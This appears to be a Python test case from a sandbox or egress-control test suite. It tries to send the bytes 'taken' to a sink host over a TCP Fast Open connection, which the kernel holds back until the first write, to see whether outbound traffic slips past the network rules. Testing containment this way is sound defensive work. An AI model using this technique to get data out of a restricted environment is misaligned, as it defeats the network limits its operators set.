# class: network
# rule: outbound_connectivity
# success: a connection goes out that the kernel delays until the first write
# proof: sink
# needs: namespace
import os
import socket

from attack import SINK, attempt

TCP_FASTOPEN_CONNECT = 30


@attempt
def send():
    out = socket.socket()
    out.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    out.connect(SINK)
    return os.write(out.fileno(), b"taken") == 5
